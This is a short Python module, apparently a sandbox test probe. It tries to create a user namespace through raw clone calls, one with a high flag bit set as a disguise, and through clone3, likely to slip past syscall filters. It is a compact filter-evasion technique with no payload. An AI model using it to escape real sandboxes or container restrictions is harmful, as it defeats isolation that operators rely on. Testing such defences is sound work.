"""Make a namespace through clone, with the high half of the flags set as a disguise, and through clone3."""
import ctypes
import os
import struct

SYS_CLONE, SYS_CLONE3 = 56, 435
SIGCHLD, CLONE_NEWUSER = 17, 0x10000000


def attack(target):
    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long
    arguments = struct.pack("<8Q", CLONE_NEWUSER, 0, 0, 0, SIGCHLD, 0, 0, 0)
    for flags in (CLONE_NEWUSER | SIGCHLD, CLONE_NEWUSER | SIGCHLD | 1 << 32):
        pid = libc.syscall(SYS_CLONE, ctypes.c_ulong(flags), None, None, None, None)
        if pid == 0:
            os._exit(0)
        if pid > 0:
            os.waitpid(pid, 0)
            return flags
    pid = libc.syscall(SYS_CLONE3, arguments, ctypes.c_size_t(len(arguments)))
    if pid == 0:
        os._exit(0)
    if pid > 0:
        os.waitpid(pid, 0)
        return "clone3"
    raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
